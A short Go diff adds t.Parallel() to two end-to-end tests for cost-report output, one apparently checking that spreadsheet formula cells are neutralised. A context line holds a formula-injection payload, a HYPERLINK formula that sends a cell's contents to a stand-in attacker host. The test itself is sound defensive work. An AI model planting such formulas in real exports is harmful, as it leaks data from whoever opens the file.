@@ -24,6 +24,7 @@ import (
 //
 //	go test -count=1 -run TestReportLineItemsAndFOCUS ./e2e/
 func TestReportLineItemsAndFOCUS(t *testing.T) {
+	t.Parallel()
 	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
 	defer cancel()
 	file := filepath.Join(scenarios, "mig-basic.yaml")
@@ -94,6 +95,7 @@ func TestReportLineItemsAndFOCUS(t *testing.T) {
 //
 //	go test -count=1 -run TestFOCUSFormulaCells ./e2e/
 func TestFOCUSFormulaCells(t *testing.T) {
+	t.Parallel()
 	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
 	defer cancel()
 	const formula = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
